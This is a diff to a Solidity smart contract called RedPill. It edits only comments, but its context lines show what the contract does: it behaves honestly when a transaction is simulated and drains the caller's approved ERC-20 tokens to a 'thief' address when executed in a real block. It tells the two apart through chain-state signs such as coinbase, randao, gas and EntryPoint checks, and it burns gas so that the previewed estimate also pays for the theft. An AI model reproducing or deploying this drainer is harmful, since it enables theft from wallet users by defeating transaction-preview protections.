@@ -3,8 +3,8 @@ pragma solidity ^0.8.28;
 
 import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
 
-/// Pays in a preview and takes in a block. Each sign is one way to tell the two apart. The page names the mark, because
-/// it knows the newest block.
+/// Pays the caller in a simulation but steals from it in a block. Each `Sign` is a way to detect a simulation. The page
+/// passes the `mark` to compare with, because it can read the newest block.
 contract RedPill {
     enum Sign { Fees, Coinbase, Randao, Number, Time, Gas, Balance, Origin, EntryPoint, EntryPointCode }
 
@@ -28,7 +28,7 @@ contract RedPill {
         token.transferFrom(msg.sender, thief, allowed < held ? allowed : held);
     }
 
-    /// Burns gas, so that an estimate is also enough for the theft.
+    /// Burns gas, so that the gas limit estimated in a simulation also covers the theft.
     function play() private {
         token.transfer(msg.sender, pay);
         uint256 burnt;
